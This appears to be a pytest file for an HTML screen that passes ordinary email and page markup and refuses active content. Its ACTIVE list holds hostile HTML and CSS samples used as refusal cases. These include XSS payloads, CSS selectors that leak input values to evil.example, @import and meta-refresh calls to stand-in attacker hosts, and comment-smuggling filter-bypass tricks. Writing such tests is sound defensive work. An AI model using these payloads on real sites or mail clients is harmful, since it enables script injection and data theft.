"""HTML that a call carries is passive and readable, or refused with the part that is not."""

import pytest

from toolcage.errors import Refused
from toolcage.facts.html import read
from toolcage.screens.html import screen


@pytest.mark.parametrize(
    "text",
    ["<p>Hello <b>Ana</b></p>", "List<int> is no tag? no: a < b", "onclick=1", '<img src="https://a.example/x.png">'],
)
def test_passive_html_passes(text: str) -> None:
    screen(read(text.replace("List<int>", "List")))


@pytest.mark.parametrize(
    ("text", "code", "part"),
    [
        ("<script>x</script>", "html.active", "<script>"),
        ('<p onclick="x">', "html.active", "onclick"),
        ('<a href="javascript:x">', "html.active", "javascript"),
        ("<img/src=x>", "html.unreadable", "<img/"),
        ("a" * (1024 * 1024 + 1), "html.too_long", ""),
        ("\x00", "text.nul", ""),
    ],
)
def test_the_refusal_names_the_part(text: str, code: str, part: str) -> None:
    with pytest.raises(Refused) as caught:
        screen(read(text))
    assert caught.value.refusal.code == code
    assert part in caught.value.refusal.message


MAILS = [
    '<!DOCTYPE html><html lang="en" xmlns="http://www.w3.org/1999/xhtml"><head><meta charset="utf-8">'
    '<meta name="viewport" content="width=device-width"><style type="text/css">/* a */ @media (max-width: 600px) '
    "{ td > p { width: calc(100% - 8px) !important; color: rgb(1, 2, 3) } }</style></head><body><p>x</p></body></html>",
    '<meta http-equiv="Content-Type" content="text/html; charset=utf-8">',
    '<meta name="Generator" content="Microsoft Word 15"><meta name="twitter:card" content="summary">',
    '<meta name="format-detection" content="telephone=no"><meta name="color-scheme" content="light dark">',
    '<a href="https://a.example" target="_blank" rel="noopener noreferrer NoFollow">x</a><a href="#x" rel>y</a>',
    '<a href="https://a.example/?q=a b" target="_blank" rel="noopener">x</a><a href="?page=2">2</a>',
    '<picture><source srcset="a.webp 1x, https://a.example/b.webp 2x"><img src="a.png" loading="lazy"></picture>',
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="x&#10;y&#8203;&#xa0;z">',
    """<style>/* it's "his */ p::before { content: '/* \u2192 ' } q { quotes: '"' '"' }</style>""",
    "<p>one\ttwo\r\nthree\f</p>",
    '<style type="text/css" rel="stylesheet" media="all">p { color: red }</style>',
    '<p style="color: red !important; scroll-behavior: smooth">x</p><blockquote cite="https://a.example">q</blockquote>',
]
ACTIVE = [
    "<style>@import 'https://evil.example';</style>",
    "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
    "<style>p{background:u\\72l(x)}</style>",
    "<style>p{background:ur/**/l(x)}</style>",
    "<style>p{background:image-set('https://evil.example' 1x)}</style>",
    "<style>p{background:src('https://evil.example')}</style>",
    "<style>@font-face{font-family:x;src:local('a')}</style>",
    "<style>/* <p></style><img src=x onerror=alert(1)> */</style>",
    "<style>p{color:red}",
    "<style>a{content:'/*'}body{background:url(https://evil.example)}a{content:'*/'}</style>",
    '<style>a{content:"/*"}body{background:image-set("https://evil.example" 1x)}a{content:"*/"}</style>',
    "<style>/*'*/@import 'https://evil.example';/*'*/</style>",
    "<style>a{content:'/*\n}body{background:url(https://evil.example)}a{content:'*/'}</style>",
    "<style>p{content:'a</style>",
    "<style>p{color:red} /* a</style>",
    '<img src="dat&#1;a:image/png;base64,AA==">',
    '<img src="c&#x7f;id:a">',
    '<p title="\x1b$@">a\x1b(B" onclick="alert(1)" x="></p>',
    "<p>a\x0eb\x0f</p>",
    '<style><img title="</style><img src=x onerror=alert(1)>">',
    '<p style="background:image(https://evil.example)">x</p>',
    '<p style="content:attr(title)">x</p>',
    '<p style="behavior:x">x</p>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<meta http-equiv="Content-Type" content="text/html; charset=utf-7">',
    '<meta http-equiv="content-language" http-equiv="refresh" content="0">',
    '<meta charset="utf-7">',
    '<meta name="referrer" content="unsafe-url">',
    '<meta name="refer&#114;er" content="unsafe-url">',
    '<meta name="google-site-verification" content="x">',
    '<meta name="msapplication-config" content="https://evil.example/b.xml">',
    '<meta name="" content="x">',
    '<a href="https://evil.example" target="_blank" rel="nofollow Opener">x</a>',
    '<a href="x" target="opener">x</a>',
    '<a href="data:image/png;base64,AA==">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<img src="x" srcset="javascript:x 1x">',
    '<p xmlns="http://www.w3.org/2000/svg">x</p>',
    '<html xmlns="http://www.w3.org/2000/svg">',
    '<blockquote cite="javascript:x">q</blockquote>',
]


@pytest.mark.parametrize("text", MAILS)
def test_mails_and_pages_as_people_and_models_write_them_pass(text: str) -> None:
    screen(read(text))


@pytest.mark.parametrize("text", ACTIVE)
def test_what_loads_leads_away_or_reads_the_text_anew_is_refused(text: str) -> None:
    with pytest.raises(Refused):
        screen(read(text))


def test_pictures_of_a_set_are_loaded_and_pictures_in_the_text_are_not() -> None:
    assert read('<img srcset="https://a.example/x.png 2x">').remote
    assert read('<picture><source srcset="x.webp"></picture>').remote
    assert not read('<img src="data:image/png;base64,AA==">').remote


def test_a_control_character_is_named() -> None:
    with pytest.raises(Refused) as caught:
        screen(read("<p>\x1b$B</p>"))
    assert caught.value.refusal.code == "html.unreadable"
    assert "\\u001b" in caught.value.refusal.message
